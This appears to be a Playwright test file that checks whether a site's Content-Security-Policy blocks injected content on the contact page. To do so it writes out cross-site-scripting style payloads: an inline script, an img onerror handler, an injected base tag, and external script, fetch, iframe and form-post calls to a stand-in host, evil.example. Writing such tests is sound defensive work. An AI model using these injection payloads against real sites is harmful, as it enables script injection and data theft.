/**
 * Each page's Content-Security-Policy, as a browser enforces it: it forbids nothing that the site needs, and all that
 * it does not.
 */
import { closedNotice, expect, test, visit, type Page } from './support/visitor.ts';

declare global {
  /** What the page's policy has forbidden: "directive: address". */
  var violations: string[];
}

/** Part of a standard that TypeScript does not know yet. */
type Guarded = { trustedTypes: { createPolicy: (name: string, rules: object) => object } };

test.use({
  // Everything on: the frames of other companies are asked for too.
  remembers: {
    ...closedNotice,
    'cookie-consent': 'accepted',
    'cookie-preferences': '{"analytics":true,"embedded":true}',
  },
});

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    globalThis.violations = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      globalThis.violations.push(`${effectiveDirective}: ${blockedURI}`),
    );
  });
});

const violationsOn = (page: Page) => page.evaluate(() => globalThis.violations);

test.describe('what nobody wrote', () => {
  test.use({ expectedErrors: /Content Security Policy|violates|Refused|Trusted/ });

  test('is forbidden: scripts, styles, frames, addresses and forms of others @desktop', async ({ page }) => {
    await visit(page, '/contact');
    await page.evaluate(async () => {
      /** Some of it throws besides. */
      const attempt = async (deed: () => unknown) => {
        try {
          await deed();
        } catch (error) {
          console.error(error);
        }
      };
      const add = (tag: string, attributes: Record<string, string>, text = '') => {
        const element = Object.assign(document.createElement(tag), { textContent: text });
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
        return element;
      };
      await attempt(() => add('script', {}, 'globalThis.injected = "script"'));
      await attempt(() => add('script', { src: 'https://evil.example/x.js' }));
      await attempt(() => add('img', { src: 'x:', onerror: 'globalThis.injected = "handler"' }));
      await attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>Written by nobody</b>'));
      await attempt(() => add('object', { data: 'https://evil.example/x.swf' }));
      await attempt(() => navigator.serviceWorker.register('/assets/x.js'));
      await attempt(() => (globalThis as unknown as Guarded).trustedTypes.createPolicy('evil', {}));
      add('style', {}, 'body { opacity: 0 }');
      add('p', { style: 'color: red' }, 'styled');
      add('iframe', { src: 'https://evil.example/' });
      add('img', { src: 'https://evil.example/x.png' });
      add('base', { href: 'https://evil.example/' });
      const address = 'https://evil.example/x.js';
      await import(address).catch(() => undefined);
      await fetch('https://evil.example/').catch(() => undefined);
      (add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement).submit();
    });
    const directives = async () => [...new Set((await violationsOn(page)).map((violation) => violation.split(':')[0]))];
    await expect
      .poll(async () => (await directives()).toSorted((a = '', b = '') => a.localeCompare(b)))
      .toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'require-trusted-types-for',
        'script-src-elem',
        'style-src-attr',
        'style-src-elem',
        'trusted-types',
      ]);
    expect(await page.evaluate(() => document.body.textContent)).not.toContain('Written by nobody');
    expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
    expect(await page.evaluate(() => location.pathname)).toBe('/contact');
  });
});
